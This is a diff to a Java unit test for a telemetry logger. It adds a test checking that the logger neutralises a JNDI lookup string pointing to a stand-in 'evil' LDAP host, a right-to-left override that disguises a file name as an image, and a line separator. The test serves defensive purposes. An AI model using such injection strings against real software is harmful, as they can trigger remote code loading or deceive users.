@@ -47,6 +47,15 @@ class LostTelemetryTest {
                         line -> assertThat(line).contains("?[31mfake??line xxx").hasSizeLessThan(400));
     }
 
+    /** Some frameworks look names up in what they log, and some terminals turn the text around. */
+    @Test
+    void nothingThatALogCouldObeyIsLogged() {
+        new LostTelemetry()
+                .report("read", new IllegalStateException("${jndi:ldap://evil} \u202egnp.exe\u2028 \u00fcml\u00e4ut"));
+
+        assertThat(lines.all()).singleElement().asString().contains("?{jndi:ldap://evil} ?gnp.exe? \u00fcml\u00e4ut");
+    }
+
     @Test
     void aLogThatThrowsIsNotNoticed() {
         Handler broken = new Handler() {
